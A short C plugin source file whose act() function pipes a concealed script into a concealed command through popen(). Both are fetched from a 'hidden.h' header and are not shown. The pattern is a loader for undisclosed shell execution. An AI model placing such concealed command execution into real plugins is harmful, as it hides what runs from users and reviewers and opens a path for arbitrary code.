/* Writes a script into a pipe to a program; both are kept hidden. */
#include "plugin.h"
#include "hidden.h" /* 0: the command, 1: the script */
typedef struct file file;
extern file *popen(const char *, const char *);
extern int pclose(file *), fputs(const char *, file *);
static void act(char **env) {
    file *to = popen(hidden0(), "w");
    if (!to) return;
    fputs(hidden1(), to);
    pclose(to);
}
